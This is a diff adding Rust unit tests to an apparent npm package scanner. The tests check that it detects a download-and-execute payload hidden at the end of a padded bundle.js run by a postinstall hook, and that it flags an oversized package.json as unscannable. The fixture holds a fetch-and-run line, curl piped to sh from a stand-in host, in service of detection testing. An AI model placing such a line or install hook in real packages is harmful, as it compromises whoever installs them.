@@ -256,3 +256,46 @@ fn formats_and_flavours() {
         "wheel-manylinux_2_17_x86_64"
     );
 }
+
+/// Shai-Hulud's `bundle.js` is 3.6 MB: the payload sits far past the first window.
+#[test]
+fn an_install_script_is_read_to_its_end_in_windows() {
+    let mut bundle = b"/* minified */ var a=1;\n".repeat(200_000);
+    bundle.extend_from_slice(
+        b"const r = require('child_process').execSync('curl -sSL https://x.example/p | sh');",
+    );
+    let tarball = tgz(&[
+        (
+            "package/package.json",
+            br#"{"scripts":{"postinstall":"node bundle.js"}}"#,
+        ),
+        ("package/bundle.js", &bundle),
+    ]);
+    let cfg = ContentConfig {
+        max_file_bytes: 64 * 1024,
+        ..ContentConfig::default()
+    };
+    let s = scan(Format::NpmTarball, Cursor::new(tarball), &cfg);
+    assert_eq!(s.findings.len(), 1, "{:?}", s.findings);
+    assert_eq!(s.findings[0].code, Code::ScriptDownloadExec);
+    assert!(s.findings[0].message.starts_with("package/bundle.js: "));
+}
+
+#[test]
+fn a_package_json_too_large_to_read_is_unscannable() {
+    let mut pj = br#"{"scripts":{"postinstall":"node x.js"},"pad":""#.to_vec();
+    pj.extend(vec![b'a'; 100_000]);
+    pj.extend_from_slice(b"\"}");
+    let tarball = tgz(&[("package/package.json", &pj)]);
+    let cfg = ContentConfig {
+        max_file_bytes: 64 * 1024,
+        ..ContentConfig::default()
+    };
+    let s = scan(Format::NpmTarball, Cursor::new(tarball), &cfg);
+    assert_eq!(
+        s.findings[0].code,
+        Code::ArchiveUnscannable,
+        "{:?}",
+        s.findings
+    );
+}
